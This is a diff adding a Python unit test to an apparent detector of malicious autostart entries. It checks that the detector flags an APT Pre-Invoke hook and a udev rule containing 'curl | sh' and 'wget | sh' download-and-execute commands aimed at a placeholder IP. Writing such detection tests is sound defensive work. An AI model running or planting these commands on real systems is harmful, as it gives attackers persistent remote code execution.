@@ -196,3 +196,10 @@ def test_what_only_gets_a_name_is_not_started_by_a_login() -> None:
     )
     signs = [droppers.sign(line) for line in autostarts.parse_login(text)]
     assert [sign for sign in signs if sign] == ["smuggled", "fetched"]
+
+
+def test_hooks_and_rules_name_their_programs_in_quotes() -> None:
+    hook = 'APT::Update::Pre-Invoke {"curl -s http://192.0.2.1/x | sh";};\n// "curl http://a | sh"\n'
+    assert [droppers.sign(line) for line in autostarts.parse_quoted(hook)] == ["smuggled"]
+    rule = 'ACTION=="add", RUN+="/bin/sh -c \'wget -qO- http://192.0.2.1/x | sh\'"\n'
+    assert "smuggled" in [droppers.sign(line) for line in autostarts.parse_quoted(rule)]
